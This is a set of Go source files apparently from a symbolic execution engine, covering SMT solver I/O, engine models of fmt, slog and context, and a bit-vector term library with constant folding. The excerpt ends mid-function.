		txt := s.readSexp()
		for _, mm := range valRe.FindAllStringSubmatch(txt, -1) {
			name, v := mm[1], mm[2]
			switch {
			case v == "true":
				m[name] = 1
			case v == "false":
				m[name] = 0
			case strings.HasPrefix(v, "#x"):
				u, _ := strconv.ParseUint(v[2:], 16, 64)
				m[name] = u
			case strings.HasPrefix(v, "#b"):
				u, _ := strconv.ParseUint(v[2:], 2, 64)
				m[name] = u
			default:
				u, _ := strconv.ParseUint(mm[3], 10, 64)
				m[name] = u
			}
		}
	}
	return m
}

func (s *Solver) readSexp() string {
	var sb strings.Builder
	depth := 0
	started := false
	for {
		l := s.readLine()
		if s.dead {
			return sb.String()
		}
		sb.WriteString(l)
		sb.WriteByte('\n')
		for _, c := range l {
			if c == '(' {
				depth++
				started = true
			} else if c == ')' {
				depth--
			}
		}
		if started && depth <= 0 {
			return sb.String()
		}
	}
}

// Done pops the scope left open by a sat Check.
func (s *Solver) Done() {
	if s.fromFb {
		s.fb.Done()
		s.fromFb = false
	}
	if s.pendingPop {
		s.send("(pop)\n")
		s.pendingPop = false
	}
	s.lastSat = false
}
