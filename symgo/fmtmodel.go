package main

// fmtmodel.go - engine model of fmt.Sprintf/Errorf/Fprintf/Sprint for the verbs used in the repo.

import (
	"fmt"
	"go/types"
	"strings"
)

type fmtResult struct {
	out     []*Term
	wrapped []*IfaceV // %w operands
}

// formatString expands format with args. A non-constant format raises the obligation that no
// symbolic byte of it can be '%' (C10); under that obligation the bytes are literal.
func (in *Interp) formatString(g *Goroutine, format *StrV, args []Value) fmtResult {
	var res fmtResult
	f := format.B
	argi := 0
	for i := 0; i < len(f); i++ {
		b := f[i]
		if !b.IsConst() {
			// symbolic byte in the format position
			notPct := Not(Eq(b, Const(8, '%')))
			if !in.checkObligation(notPct, "fmt.format-is-data", "format", "a computed string reaches the format position of a printf-style call and can contain '%' (its bytes would be interpreted as formatting verbs)") {
				r := in.solver.Check(notPct)
				in.solver.Done()
				if r == "unsat" {
					in.abort("violation", "format byte is always %")
				}
			}
			in.addPC(notPct)
			res.out = append(res.out, b)
			continue
		}
		if b.Val != '%' {
			res.out = append(res.out, b)
			continue
		}
		// parse verb
		j := i + 1
		spec := "%"
		for j < len(f) && f[j].IsConst() && strings.ContainsRune("+-# 0123456789.", rune(f[j].Val)) {
			spec += string(rune(f[j].Val))
			j++
		}
		if j >= len(f) {
			res.out = append(res.out, strConst("%!(NOVERB)").B...)
			break
		}
		if !f[j].IsConst() {
			in.inconclusive("symbolic verb after '%' in format")
		}
		verb := byte(f[j].Val)
		spec += string(rune(verb))
		i = j
		if verb == '%' {
			res.out = append(res.out, Const(8, '%'))
			continue
		}
		if argi >= len(args) {
			res.out = append(res.out, strConst("%!"+string(rune(verb))+"(MISSING)").B...)
			continue
		}
		a := args[argi]
		argi++
		res.out = append(res.out, in.formatArg(g, spec, verb, a, &res)...)
	}
	if argi < len(args) {
		// %!(EXTRA type=value, ...)
		res.out = append(res.out, strConst("%!(EXTRA ").B...)
		for k := argi; k < len(args); k++ {
			if k > argi {
				res.out = append(res.out, strConst(", ").B...)
			}
			iv, _ := args[k].(*IfaceV)
			tn := "<nil>"
			if iv != nil && iv.T != nil {
				tn = types.TypeString(iv.T, nil)
			}
			res.out = append(res.out, strConst(tn+"=").B...)
			res.out = append(res.out, in.formatArg(g, "%v", 'v', args[k], &res)...)
		}
		res.out = append(res.out, Const(8, ')'))
	}
	return res
}

func (in *Interp) nativeOf(v Value, t types.Type) (interface{}, bool) {
	switch x := v.(type) {
	case *Term:
		if !x.IsConst() {
			return nil, false
		}
		if x.W == 0 {
			return x.Val == 1, true
		}
		w, signed, ok := intWidth(t)
		if !ok {
			return nil, false
		}
		if signed {
			switch w {
			case 8:
				return int8(x.Val), true
			case 16:
				return int16(x.Val), true
			case 32:
				return int32(x.Val), true
			}
			return int64(x.Val), true
		}
		switch w {
		case 8:
			return uint8(x.Val), true
		case 16:
			return uint16(x.Val), true
		case 32:
			return uint32(x.Val), true
		}
		return x.Val, true
	case *StrV:
		s, ok := x.Concrete()
		return s, ok
	case *SliceV:
		if x.Nil {
			return []byte(nil), true
		}
		if x.Len > 0 {
			if w, _, ok := intWidth(x.Cells[0].T); !ok || w != 8 {
				return nil, false
			}
		}
		b := make([]byte, x.Len)
		for i := 0; i < x.Len; i++ {
			t, ok := in.loadLeaf(x.Cells[i]).(*Term)
			if !ok || !t.IsConst() {
				return nil, false
			}
			b[i] = byte(t.Val)
		}
		return b, true
	}
	return nil, false
}

func (in *Interp) formatArg(g *Goroutine, spec string, verb byte, a Value, res *fmtResult) []*Term {
	iv, isI := a.(*IfaceV)
	var t types.Type
	v := a
	if isI {
		if iv.T == nil {
			if verb == 'v' || verb == 's' {
				if verb == 's' {
					return strConst("%!s(<nil>)").B
				}
				return strConst("<nil>").B
			}
			return strConst("%!" + string(rune(verb)) + "(<nil>)").B
		}
		t = iv.T
		v = iv.V
	}
	if verb == 'T' {
		return strConst(types.TypeString(t, nil)).B
	}
	if verb == 'w' {
		res.wrapped = append(res.wrapped, iv)
		verb = 'v'
		spec = "%v"
	}
	// error / Stringer for %s %v %q
	if t != nil && (verb == 's' || verb == 'v' || verb == 'q') {
		if in.hasMethod(t, "Error") {
			r, _ := in.callMethodSync(g, iv, "Error")
			return in.formatArg(g, spec, verb, r, res)
		}
		if in.hasMethod(t, "String") {
			r, _ := in.callMethodSync(g, iv, "String")
			return in.formatArg(g, spec, verb, r, res)
		}
	}
	// fully concrete operand: defer to the real fmt
	if t != nil {
		if nv, ok := in.nativeOf(v, t); ok {
			if _, isS := v.(*StrV); isS || !isNamedNonBasic(t) {
				return strConst(fmt.Sprintf(spec, nv)).B
			}
		}
	} else if sv, ok := v.(*StrV); ok {
		if s, c := sv.Concrete(); c {
			return strConst(fmt.Sprintf(spec, s)).B
		}
	}
	plain := len(spec) == 2
	switch x := v.(type) {
	case *StrV:
		switch verb {
		case 's', 'v':
			if plain {
				return x.B
			}
		case 'q':
			if plain {
				return in.quoteSym(x.B)
			}
		case 'x':
			if plain {
				return hexBytes(x.B)
			}
		}
	case *SliceV:
		bs := in.bytesOf(x)
		switch verb {
		case 's':
			if plain {
				return bs
			}
		case 'q':
			if plain {
				return in.quoteSym(bs)
			}
		case 'x':
			if plain {
				return hexBytes(bs)
			}
		}
	case *Term:
		if x.W > 0 && (verb == 'd' || verb == 'v') && plain {
			_, signed, _ := intWidth(t)
			val := in.concretize(x, "%d operand")
			if signed {
				return strConst(fmt.Sprintf("%d", sext(val, x.W))).B
			}
			return strConst(fmt.Sprintf("%d", val)).B
		}
		if x.W == 0 && (verb == 'v' || verb == 't') {
			if in.branch(x) {
				return strConst("true").B
			}
			return strConst("false").B
		}
	case *PtrV:
		if verb == 'v' || verb == 'p' {
			return strConst("0xc000012345").B
		}
	}
	in.inconclusive(fmt.Sprintf("fmt model: unsupported verb %q for operand %s of type %v", spec, describe(v), t))
	return nil
}

func isNamedNonBasic(t types.Type) bool {
	_, isBasic := t.Underlying().(*types.Basic)
	return !isBasic
}

var hexdigits = strConst("0123456789abcdef").B

func hexBytes(b []*Term) []*Term {
	var out []*Term
	for _, x := range b {
		if x.IsConst() {
			out = append(out, strConst(fmt.Sprintf("%02x", x.Val)).B...)
			continue
		}
		hi := ZeroExt(BinBV("bvlshr", x, Const(8, 4)), 64)
		lo := ZeroExt(BinBV("bvand", x, Const(8, 15)), 64)
		out = append(out, selectTerm(hi, hexdigits), selectTerm(lo, hexdigits))
	}
	return out
}

// quoteSym models strconv.Quote for strings whose symbolic bytes are printable ASCII other
// than '"' and '\\' (checked: otherwise inconclusive).
func (in *Interp) quoteSym(b []*Term) []*Term {
	out := []*Term{Const(8, '"')}
	for _, x := range b {
		if x.IsConst() {
			q := fmt.Sprintf("%q", string([]byte{byte(x.Val)}))
			if x.Val >= 0x80 {
				in.inconclusive("%q of non-ASCII byte (needs UTF-8 context)")
			}
			out = append(out, strConst(q[1:len(q)-1]).B...)
			continue
		}
		simple := And(And(Cmp("bvuge", x, Const(8, 0x20)), Cmp("bvule", x, Const(8, 0x7e))), And(Not(Eq(x, Const(8, '"'))), Not(Eq(x, Const(8, '\\')))))
		if !in.branch(simple) {
			in.abort("outside", "%q of a byte outside the modelled class (printable ASCII without quote/backslash)")
		}
		out = append(out, x)
	}
	return append(out, Const(8, '"'))
}

func variadicArgs(in *Interp, v Value) []Value {
	s, ok := v.(*SliceV)
	if !ok || s.Nil {
		return nil
	}
	out := make([]Value, s.Len)
	for i := 0; i < s.Len; i++ {
		out[i] = in.load(s.Cells[i])
	}
	return out
}

func (in *Interp) newErrorString(msg *StrV) *IfaceV {
	t := lookupType(in.w.prog, "errors", "errorString")
	if t == nil {
		panic(engineErr("errors.errorString type not found"))
	}
	c := newCell(t, &StructV{F: []Value{msg}})
	return &IfaceV{T: types.NewPointer(t), V: &PtrV{C: c}}
}

func (in *Interp) newWrapError(msg *StrV, inner *IfaceV) *IfaceV {
	t := lookupType(in.w.prog, "fmt", "wrapError")
	if t == nil {
		panic(engineErr("fmt.wrapError type not found"))
	}
	c := newCell(t, &StructV{F: []Value{msg, inner}})
	return &IfaceV{T: types.NewPointer(t), V: &PtrV{C: c}}
}

func init() {
	reg("fmt.Sprintf", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		r := in.formatString(g, c.args[0].(*StrV), variadicArgs(in, c.args[1]))
		return done(&StrV{B: r.out})
	})
	reg("fmt.Errorf", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		r := in.formatString(g, c.args[0].(*StrV), variadicArgs(in, c.args[1]))
		msg := &StrV{B: r.out}
		if len(r.wrapped) == 1 && r.wrapped[0] != nil && r.wrapped[0].T != nil {
			return done(in.newWrapError(msg, r.wrapped[0]))
		}
		if len(r.wrapped) > 1 {
			in.inconclusive("fmt.Errorf with several %w")
		}
		return done(in.newErrorString(msg))
	})
	reg("fmt.Sprint", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		var out []*Term
		res := fmtResult{}
		args := variadicArgs(in, c.args[0])
		for i, a := range args {
			if i > 0 {
				// space between operands when neither is a string
				_, s1 := ifaceStr(args[i-1])
				_, s2 := ifaceStr(a)
				if !s1 && !s2 {
					out = append(out, Const(8, ' '))
				}
			}
			out = append(out, in.formatArg(g, "%v", 'v', a, &res)...)
		}
		return done(&StrV{B: out})
	})
	reg("fmt.Fprintf", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		r := in.formatString(g, c.args[1].(*StrV), variadicArgs(in, c.args[2]))
		return in.writeTo(g, c, c.args[0].(*IfaceV), r.out)
	})
	reg("fmt.Fprint", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		var out []*Term
		res := fmtResult{}
		for _, a := range variadicArgs(in, c.args[1]) {
			out = append(out, in.formatArg(g, "%v", 'v', a, &res)...)
		}
		return in.writeTo(g, c, c.args[0].(*IfaceV), out)
	})
}

func ifaceStr(v Value) (*StrV, bool) {
	iv, ok := v.(*IfaceV)
	if !ok || iv.T == nil {
		return nil, false
	}
	s, ok := iv.V.(*StrV)
	return s, ok && isString(iv.T)
}

// writeTo calls w.Write(bytes) on an io.Writer value and returns (n, err).
func (in *Interp) writeTo(g *Goroutine, c *callCtx, w *IfaceV, b []*Term) (Value, int) {
	sl := in.makeSlice(types.Typ[types.Uint8], len(b), len(b))
	for i, x := range b {
		sl.Cells[i].V = x
	}
	if len(b) == 0 {
		sl = &SliceV{Cells: []*Cell{}, Len: 0}
	}
	if w.T == nil {
		in.goPanic(g, &PanicV{Kind: "nil", Msg: "Fprintf to nil writer"})
		return nil, irPanic
	}
	r, ok := in.callMethodSync(g, w, "Write", sl)
	if !ok {
		panic(engineErr("writer without Write method"))
	}
	return done(r)
}
