package main

// envmodel.go - engine models of log/slog (recorder), context, x/text/cases.Title, and the
// harness API for inspecting recorded log records.

import (
	"fmt"
	"go/types"
	"strings"
)

// ---------- slog recorder ----------

type logRec struct {
	level int
	msg   *StrV
	attrs []Value // alternating key (StrV as IfaceV or slog.Attr) / value
}

type loggerState struct {
	attrs []Value
}

func (in *Interp) loggerOf(v Value) *loggerState {
	p, ok := v.(*PtrV)
	if !ok || p.C == nil {
		panic(engineErr("nil *slog.Logger used"))
	}
	k := "slog:" + fmt.Sprintf("%p", p.C)
	if s, ok := in.natives[k]; ok {
		return s.(*loggerState)
	}
	s := &loggerState{}
	in.natives[k] = s
	return s
}

func (in *Interp) newLogger(attrs []Value) Value {
	t := lookupType(in.w.prog, "log/slog", "Logger")
	if t == nil {
		panic(engineErr("log/slog.Logger type not found (package not imported by the code under check)"))
	}
	c := newCell(t, nil)
	p := &PtrV{C: c}
	in.loggerOf(p).attrs = attrs
	return p
}

func (in *Interp) logRecord(level int, recv Value, msg Value, args Value) {
	ls := in.loggerOf(recv)
	r := &logRec{level: level, msg: msg.(*StrV)}
	r.attrs = append(r.attrs, ls.attrs...)
	r.attrs = append(r.attrs, variadicArgs(in, args)...)
	in.logs = append(in.logs, r)
}

// findAttr searches key in a flat args list (key,value pairs or slog.Attr values incl. groups).
func (in *Interp) findAttr(g *Goroutine, attrs []Value, key string) (Value, bool) {
	var found Value
	ok := false
	for i := 0; i < len(attrs); i++ {
		iv, isI := attrs[i].(*IfaceV)
		if !isI || iv.T == nil {
			continue
		}
		if sv, isS := iv.V.(*StrV); isS && isString(iv.T) {
			k, _ := sv.Concrete()
			if i+1 < len(attrs) {
				if k == key {
					found, ok = attrs[i+1], true
				}
				i++
			}
			continue
		}
		// slog.Attr struct {Key string; Value slog.Value{_, num, any}}
		if st, isSt := iv.V.(*StructV); isSt && strings.HasSuffix(types.TypeString(iv.T, nil), "slog.Attr") {
			k, _ := st.F[0].(*StrV).Concrete()
			val := st.F[1].(*StructV)
			anyv := val.F[len(val.F)-1]
			if k == key {
				found, ok = anyv, true
			}
			// group: any holds []any args
			if aiv, isI := anyv.(*IfaceV); isI && aiv.T != nil {
				if sl, isSl := aiv.V.(*SliceV); isSl {
					if v, o := in.findAttr(g, variadicArgs(in, sl), key); o {
						found, ok = v, true
					}
				}
			}
		}
	}
	return found, ok
}

func (in *Interp) attrString(g *Goroutine, v Value) *StrV {
	iv, isI := v.(*IfaceV)
	if !isI {
		if s, ok := v.(*StrV); ok {
			return s
		}
		return strConst(describe(v))
	}
	if iv.T == nil {
		return strConst("<nil>")
	}
	res := fmtResult{}
	return &StrV{B: in.formatArg(g, "%v", 'v', iv, &res)}
}

func init() {
	for name, lvl := range map[string]int{"Info": 0, "Error": 8, "Debug": -4, "Warn": 4} {
		lvl := lvl
		reg("(*log/slog.Logger)."+name, func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
			in.logRecord(lvl, c.args[0], c.args[1], c.args[2])
			return done(nil)
		})
	}
	reg("(*log/slog.Logger).With", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		ls := in.loggerOf(c.args[0])
		attrs := append(append([]Value(nil), ls.attrs...), variadicArgs(in, c.args[1])...)
		return done(in.newLogger(attrs))
	})
	reg("log/slog.Group", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		at := lookupType(in.w.prog, "log/slog", "Attr")
		vt := lookupType(in.w.prog, "log/slog", "Value")
		val := zeroValue(vt).(*StructV)
		val.F[len(val.F)-1] = &IfaceV{T: types.NewSlice(types.NewInterfaceType(nil, nil)), V: c.args[1]}
		a := zeroValue(at).(*StructV)
		a.F[0] = c.args[0]
		a.F[1] = val
		return done(a)
	})
	reg("log/slog.Default", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(in.newLogger(nil))
	})

	// ----- x/text/cases: Title(language.English).String(s) -----
	reg("golang.org/x/text/cases.Title", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		t := lookupType(in.w.prog, "golang.org/x/text/cases", "Caser")
		return done(zeroValue(t))
	})
	reg("(golang.org/x/text/cases.Caser).String", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		s, ok := c.args[1].(*StrV).Concrete()
		if !ok {
			in.inconclusive("cases.Title on symbolic string")
		}
		// title-case of a single lowercase ASCII word
		if s == "" {
			return done(strConst(""))
		}
		for _, r := range s {
			if r > 127 || r == ' ' {
				in.inconclusive("cases.Title model covers single ASCII words only")
			}
		}
		return done(strConst(strings.ToUpper(s[:1]) + strings.ToLower(s[1:])))
	})

	// ----- context -----
	reg("context.Background", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(in.ctxIface(&ctxObj{}))
	})
	reg("context.TODO", intrinsics["context.Background"])
	withCancel := func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		parent := in.ctxFrom(c.args[0])
		child := &ctxObj{parent: parent}
		if parent != nil {
			parent.children = append(parent.children, child)
			if parent.cancelled {
				child.cancel(in, parent.err, parent.cause)
			}
		}
		cf := &FuncV{Native: func(in *Interp, args []Value) Value {
			child.cancel(in, in.ctxErrCanceled(), nil)
			return nil
		}}
		in.funcIDs++
		cf.id = in.funcIDs
		return done(tuple(in.ctxIface(child), cf))
	}
	reg("context.WithCancel", withCancel)
	reg("context.WithCancelCause", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		parent := in.ctxFrom(c.args[0])
		child := &ctxObj{parent: parent}
		if parent != nil {
			parent.children = append(parent.children, child)
			if parent.cancelled {
				child.cancel(in, parent.err, parent.cause)
			}
		}
		cf := &FuncV{Native: func(in *Interp, args []Value) Value {
			cause := args[0].(*IfaceV)
			if cause.T == nil {
				cause = nil
			}
			child.cancel(in, in.ctxErrCanceled(), cause)
			return nil
		}}
		return done(tuple(in.ctxIface(child), cf))
	})
	reg("context.WithValue", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		parent := in.ctxFrom(c.args[0])
		child := &ctxObj{parent: parent, key: c.args[1], val: c.args[2]}
		if parent != nil {
			parent.children = append(parent.children, child)
			if parent.cancelled {
				child.cancel(in, parent.err, parent.cause)
			}
		}
		return done(in.ctxIface(child))
	})
	reg("context.Cause", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		o := in.ctxFrom(c.args[0])
		if o == nil || !o.cancelled {
			return done(&IfaceV{})
		}
		if o.cause != nil {
			return done(o.cause)
		}
		return done(o.err)
	})
	reg("(*context.cancelCtx).Done", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		o := c.args[0].(*NativeV).X.(*ctxObj)
		return done(&ChanV{C: o.doneChan(in)})
	})
	reg("(*context.cancelCtx).Err", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		o := c.args[0].(*NativeV).X.(*ctxObj)
		if in.syncPoint(g) {
			return nil, irYield
		}
		if !o.cancelled {
			return done(&IfaceV{})
		}
		return done(o.err)
	})
	reg("(*context.cancelCtx).Value", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		o := c.args[0].(*NativeV).X.(*ctxObj)
		for p := o; p != nil; p = p.parent {
			if p.key != nil {
				if in.branch(in.valuesEqual(p.key, c.args[1])) {
					return done(p.val)
				}
			}
		}
		return done(&IfaceV{})
	})
	reg("(*context.cancelCtx).Deadline", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		t := lookupType(in.w.prog, "time", "Time")
		return done(tuple(zeroValue(t), FalseT))
	})
	globalInits["context.Canceled"] = func(in *Interp, c *Cell) { c.V = in.ctxErrCanceled() }
}

type ctxObj struct {
	parent    *ctxObj
	children  []*ctxObj
	cancelled bool
	err       *IfaceV
	cause     *IfaceV
	done      *ChanObj
	key, val  Value
}

func (o *ctxObj) doneChan(in *Interp) *ChanObj {
	if o.done == nil {
		in.objSeq++
		o.done = &ChanObj{id: in.objSeq, name: "ctx.Done", elem: types.NewStruct(nil, nil)}
		if o.cancelled {
			o.done.closed = true
		}
	}
	return o.done
}

func (o *ctxObj) cancel(in *Interp, err, cause *IfaceV) {
	if o.cancelled {
		return
	}
	o.cancelled = true
	o.err = err
	o.cause = cause
	if o.done != nil {
		o.done.closed = true
	}
	for _, ch := range o.children {
		ch.cancel(in, err, cause)
	}
}

func (in *Interp) ctxType() types.Type {
	t := lookupType(in.w.prog, "context", "cancelCtx")
	if t == nil {
		panic(engineErr("context.cancelCtx type not found"))
	}
	return types.NewPointer(t)
}

func (in *Interp) ctxIface(o *ctxObj) *IfaceV {
	return &IfaceV{T: in.ctxType(), V: &NativeV{X: o}}
}

func (in *Interp) ctxFrom(v Value) *ctxObj {
	iv, ok := v.(*IfaceV)
	if !ok || iv.T == nil {
		return nil
	}
	nv, ok := iv.V.(*NativeV)
	if !ok {
		panic(engineErr("context value not created by the engine's context model: " + describe(v)))
	}
	return nv.X.(*ctxObj)
}

func (in *Interp) ctxErrCanceled() *IfaceV {
	if v, ok := in.natives["ctx.Canceled"]; ok {
		return v.(*IfaceV)
	}
	e := in.newErrorString(strConst("context canceled"))
	in.natives["ctx.Canceled"] = e
	return e
}

func init() {
	// net/http process-wide defaults: plain zero-valued objects
	globalInits["net/http.DefaultClient"] = func(in *Interp, c *Cell) {
		t := lookupType(in.w.prog, "net/http", "Client")
		c.V = &PtrV{C: newCell(t, nil)}
	}
	globalInits["net/http.DefaultTransport"] = func(in *Interp, c *Cell) {
		t := lookupType(in.w.prog, "net/http", "Transport")
		c.V = &IfaceV{T: types.NewPointer(t), V: &PtrV{C: newCell(t, nil)}}
	}
	reg("io.NopCloser", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) { return done(c.args[0]) })
}

func init() {
	for _, n := range []string{"StdEncoding", "URLEncoding", "RawStdEncoding", "RawURLEncoding"} {
		globalInits["encoding/base64."+n] = func(in *Interp, c *Cell) {
			t := lookupType(in.w.prog, "encoding/base64", "Encoding")
			c.V = &PtrV{C: newCell(t, nil)}
		}
	}
}

func init() {
	for _, n := range []string{"Stdin", "Stdout", "Stderr"} {
		globalInits["os."+n] = func(in *Interp, c *Cell) {
			t := lookupType(in.w.prog, "os", "File")
			c.V = &PtrV{C: newCell(t, nil)}
		}
	}
	globalInits["os.Args"] = func(in *Interp, c *Cell) {
		s := in.makeSlice(types.Typ[types.String], 1, 1)
		s.Cells[0].V = strConst("prog")
		c.V = s
	}
}
