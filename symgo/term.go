package main

// term.go - SMT term DAG with constant folding.  Terms are bit-vectors of
// width 8/16/32/64 (W>0) or booleans (W==0).

import (
	"fmt"
	"os"
	"strings"
)

type Term struct {
	Op   string // "const","var", or SMT operator name
	W    int    // width; 0 = Bool
	Val  uint64 // for const (bool: 0/1)
	Name string // for var
	Args []*Term
	Hi   int // for extract / extend amount
	Lo   int
	id   int
	// unsigned value bounds (bit-vectors only), computed at construction
	Umin, Umax uint64
	ranged     bool
}

// rng returns conservative unsigned bounds of a bit-vector term.
func (t *Term) rng() (uint64, uint64) {
	if t.W == 0 {
		return 0, 1
	}
	if t.Op == "const" {
		return t.Val, t.Val
	}
	if t.ranged {
		return t.Umin, t.Umax
	}
	return 0, mask(t.W)
}

func (t *Term) setRange() {
	if t.W == 0 {
		return
	}
	m := mask(t.W)
	lo, hi := uint64(0), m
	a := t.Args
	switch t.Op {
	case "ite":
		l1, h1 := a[1].rng()
		l2, h2 := a[2].rng()
		lo, hi = l1, h1
		if l2 < lo {
			lo = l2
		}
		if h2 > hi {
			hi = h2
		}
	case "bvand":
		_, h1 := a[0].rng()
		_, h2 := a[1].rng()
		hi = h1
		if h2 < hi {
			hi = h2
		}
	case "bvor", "bvxor":
		l1, h1 := a[0].rng()
		l2, h2 := a[1].rng()
		mx := h1
		if h2 > mx {
			mx = h2
		}
		// smallest 2^k-1 >= mx
		p := uint64(0)
		for p < mx {
			p = p<<1 | 1
		}
		hi = p & m
		if t.Op == "bvor" {
			lo = l1
			if l2 > lo {
				lo = l2
			}
		}
	case "bvadd":
		l1, h1 := a[0].rng()
		l2, h2 := a[1].rng()
		if h1+h2 >= h1 && h1+h2 <= m {
			lo, hi = l1+l2, h1+h2
		}
	case "bvsub":
		l1, h1 := a[0].rng()
		l2, h2 := a[1].rng()
		if l1 >= h2 {
			lo, hi = l1-h2, h1-l2
		}
	case "bvmul":
		l1, h1 := a[0].rng()
		l2, h2 := a[1].rng()
		if h1 == 0 || h2 == 0 || (h1*h2)/h2 == h1 && h1*h2 <= m {
			lo, hi = l1*l2, h1*h2
		}
	case "bvudiv":
		l1, h1 := a[0].rng()
		l2, h2 := a[1].rng()
		if l2 > 0 {
			lo, hi = l1/h2, h1/l2
		}
	case "bvurem":
		_, h1 := a[0].rng()
		l2, h2 := a[1].rng()
		if l2 > 0 {
			hi = h2 - 1
			if h1 < hi {
				hi = h1
			}
		}
	case "bvlshr":
		l1, h1 := a[0].rng()
		if a[1].IsConst() && a[1].Val < uint64(t.W) {
			lo, hi = l1>>a[1].Val, h1>>a[1].Val
		} else {
			hi = h1
		}
	case "bvshl":
		l1, h1 := a[0].rng()
		if a[1].IsConst() && a[1].Val < uint64(t.W) {
			k := a[1].Val
			if (h1<<k)>>k == h1 && h1<<k <= m {
				lo, hi = l1<<k, h1<<k
			}
		}
	case "zero_extend":
		lo, hi = a[0].rng()
	case "extract":
		l1, h1 := a[0].rng()
		if t.Lo == 0 && h1 <= m {
			lo, hi = l1, h1
		}
	}
	if lo != 0 || hi != m {
		t.Umin, t.Umax, t.ranged = lo, hi, true
	}
}

var noRange = os.Getenv("SYMGO_NORANGE") != ""

func mask(w int) uint64 {
	if w >= 64 {
		return ^uint64(0)
	}
	return (uint64(1) << uint(w)) - 1
}

func mk(op string, w int, args ...*Term) *Term {
	t := &Term{Op: op, W: w, Args: args}
	if op != "extract" && op != "zero_extend" && op != "sign_extend" {
		t.setRange()
	}
	return t
}

func Const(w int, v uint64) *Term {
	return &Term{Op: "const", W: w, Val: v & mask(w)}
}

var TrueT = &Term{Op: "const", W: 0, Val: 1, id: -1}
var FalseT = &Term{Op: "const", W: 0, Val: 0, id: -2}

func BoolC(b bool) *Term {
	if b {
		return TrueT
	}
	return FalseT
}

func Var(name string, w int) *Term {
	return &Term{Op: "var", W: w, Name: name}
}

func (t *Term) IsConst() bool { return t.Op == "const" }
func (t *Term) IsTrue() bool  { return t.Op == "const" && t.W == 0 && t.Val == 1 }
func (t *Term) IsFalse() bool { return t.Op == "const" && t.W == 0 && t.Val == 0 }

func sext(v uint64, w int) int64 {
	if w >= 64 {
		return int64(v)
	}
	if v&(1<<uint(w-1)) != 0 {
		return int64(v | ^mask(w))
	}
	return int64(v)
}

func sameTerm(a, b *Term) bool {
	if a == b {
		return true
	}
	if a.Op != b.Op || a.W != b.W {
		return false
	}
	switch a.Op {
	case "const":
		return a.Val == b.Val
	case "var":
		return a.Name == b.Name
	}
	if len(a.Args) != len(b.Args) || a.Hi != b.Hi || a.Lo != b.Lo {
		return false
	}
	// shallow structural check only (bounded depth 3 to stay cheap)
	return sameDepth(a, b, 3)
}

func sameDepth(a, b *Term, d int) bool {
	if a == b {
		return true
	}
	if d == 0 {
		return false
	}
	if a.Op != b.Op || a.W != b.W || len(a.Args) != len(b.Args) || a.Hi != b.Hi || a.Lo != b.Lo {
		return false
	}
	switch a.Op {
	case "const":
		return a.Val == b.Val
	case "var":
		return a.Name == b.Name
	}
	for i := range a.Args {
		if !sameDepth(a.Args[i], b.Args[i], d-1) {
			return false
		}
	}
	return true
}

// BinBV builds a bit-vector binary operation with folding.
func BinBV(op string, a, b *Term) *Term {
	w := a.W
	if a.W != b.W {
		panic(fmt.Sprintf("width mismatch %s %d %d", op, a.W, b.W))
	}
	if a.IsConst() && b.IsConst() {
		x, y := a.Val, b.Val
		var r uint64
		ok := true
		switch op {
		case "bvadd":
			r = x + y
		case "bvsub":
			r = x - y
		case "bvmul":
			r = x * y
		case "bvand":
			r = x & y
		case "bvor":
			r = x | y
		case "bvxor":
			r = x ^ y
		case "bvudiv":
			if y == 0 {
				r = mask(w)
			} else {
				r = x / y
			}
		case "bvurem":
			if y == 0 {
				r = x
			} else {
				r = x % y
			}
		case "bvsdiv":
			if y == 0 {
				ok = false
			} else {
				sx, sy := sext(x, w), sext(y, w)
				if sy == -1 {
					r = uint64(-sx)
				} else {
					r = uint64(sx / sy)
				}
			}
		case "bvsrem":
			if y == 0 {
				ok = false
			} else {
				sx, sy := sext(x, w), sext(y, w)
				if sy == -1 {
					r = 0
				} else {
					r = uint64(sx % sy)
				}
			}
		case "bvshl":
			if y >= uint64(w) {
				r = 0
			} else {
				r = x << y
			}
		case "bvlshr":
			if y >= uint64(w) {
				r = 0
			} else {
				r = x >> y
			}
		case "bvashr":
			sx := sext(x, w)
			if y >= uint64(w) {
				if sx < 0 {
					r = mask(w)
				} else {
					r = 0
				}
			} else {
				r = uint64(sx >> y)
			}
		default:
			ok = false
		}
		if ok {
			return Const(w, r)
		}
	}
	// identities
	switch op {
	case "bvadd", "bvor", "bvxor":
		if a.IsConst() && a.Val == 0 {
			return b
		}
		if b.IsConst() && b.Val == 0 {
			return a
		}
	case "bvsub", "bvshl", "bvlshr", "bvashr":
		if b.IsConst() && b.Val == 0 {
			return a
		}
	case "bvand":
		if a.IsConst() && a.Val == 0 {
			return a
		}
		if b.IsConst() && b.Val == 0 {
			return b
		}
		if a.IsConst() && a.Val == mask(w) {
			return b
		}
		if b.IsConst() && b.Val == mask(w) {
			return a
		}
	case "bvmul":
		if a.IsConst() && a.Val == 1 {
			return b
		}
		if b.IsConst() && b.Val == 1 {
			return a
		}
		if (a.IsConst() && a.Val == 0) || (b.IsConst() && b.Val == 0) {
			return Const(w, 0)
		}
	}
	return mk(op, w, a, b)
}

// Cmp builds a comparison; op in = bvult bvule bvugt bvuge bvslt bvsle bvsgt bvsge
func Cmp(op string, a, b *Term) *Term {
	if a.W != b.W {
		panic(fmt.Sprintf("cmp width mismatch %s %d %d", op, a.W, b.W))
	}
	if a.IsConst() && b.IsConst() {
		x, y := a.Val, b.Val
